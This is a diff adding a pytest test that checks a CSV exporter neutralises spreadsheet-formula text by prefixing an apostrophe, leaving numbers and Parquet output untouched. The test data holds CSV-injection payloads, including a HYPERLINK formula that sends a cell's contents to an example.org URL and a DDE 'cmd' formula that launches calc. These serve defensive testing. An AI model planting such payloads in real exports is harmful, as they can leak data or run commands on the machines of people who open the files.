@@ -4,13 +4,14 @@ from __future__ import annotations
 
 import csv
 import json
+import shutil
 
 import duckdb
 import frictionless
 import pytest
 
 from conftest import PROJECT_DIR, PUBLISHED_WAREHOUSE
-from jaarcijfers.export import ExportError, export_marts, marts_in_manifest
+from jaarcijfers.export import NEUTRALISED, ExportError, export_marts, marts_in_manifest
 
 MANIFEST = PROJECT_DIR / "target" / "manifest.json"
 
@@ -77,3 +78,65 @@ def test_a_mart_in_the_manifest_but_not_in_the_warehouse_stops_the_export_naming
 
     with pytest.raises(ExportError, match=r"has no table marts\.fct_not_built, which dbt's manifest lists"):
         export_marts(PUBLISHED_WAREHOUSE, stale_manifest, tmp_path / "exports")
+
+
+def csv_records(path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+# Text that a spreadsheet opening the CSV would run as a formula (OWASP's CSV injection), one per
+# text column of a publication: a producer, a note, a source type, ...
+FORMULA_LIKE = {
+    "producer": '=HYPERLINK("https://example.org/?"&A1,"IND")',
+    "source_note": "+1+1",
+    "source_type": "-2+3",
+    "title_printed": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "published_url": "\t=1+1",
+    "sha256": "\r=1+1",
+}
+
+
+def test_csv_text_cells_that_read_as_formulas_are_neutralised_and_numbers_and_parquet_are_not(tmp_path):
+    warehouse = tmp_path / "ind.duckdb"
+    shutil.copyfile(PUBLISHED_WAREHOUSE, warehouse)
+    with duckdb.connect(str(warehouse)) as connection:
+        edition = connection.execute("select max(edition_year) from marts.dim_publication").fetchone()[0]
+        assignments = ", ".join(f"{column} = ?" for column in FORMULA_LIKE)
+        connection.execute(
+            f"update marts.dim_publication set {assignments} where edition_year = ?", [*FORMULA_LIKE.values(), edition]
+        )
+        negative_gaps = connection.execute("select count(*) from marts.fct_consistency_checks where gap < 0").fetchone()
+    exports = tmp_path / "exports"
+
+    export_marts(warehouse, MANIFEST, exports)
+
+    published = {row["edition_year"]: row for row in csv_records(exports / "dim_publication.csv")}
+    assert {column: published[str(edition)][column] for column in FORMULA_LIKE} == {
+        column: f"'{text}" for column, text in FORMULA_LIKE.items()
+    }
+    untouched = [
+        value
+        for number, row in published.items()
+        for column, value in row.items()
+        if number != str(edition) or column not in FORMULA_LIKE
+    ]
+    assert untouched and not any(value.startswith("'") for value in untouched), "only formula-like cells change"
+    assert published[str(edition)]["figure_count"].isdigit()
+    with duckdb.connect() as reader:
+        parquet = reader.execute(
+            f"select {', '.join(FORMULA_LIKE)} from read_parquet(?) where edition_year = ?",
+            [str(exports / "dim_publication.parquet"), edition],
+        ).fetchone()
+    assert parquet == tuple(FORMULA_LIKE.values()), "the Parquet file keeps the text as it is"
+    gaps = [row["gap"] for row in csv_records(exports / "fct_consistency_checks.csv")]
+    assert sum(gap.startswith("-") for gap in gaps) == negative_gaps[0] > 0, "a negative number stays a number"
+    assert all(not gap.startswith("'") for gap in gaps)
+
+    package = json.loads((exports / "datapackage.json").read_text(encoding="utf-8"))
+    assert NEUTRALISED in package["description"]
+    assert all(
+        resource["description"].endswith(NEUTRALISED)
+        for resource in package["resources"]
+        if resource["format"] == "csv"
+    )
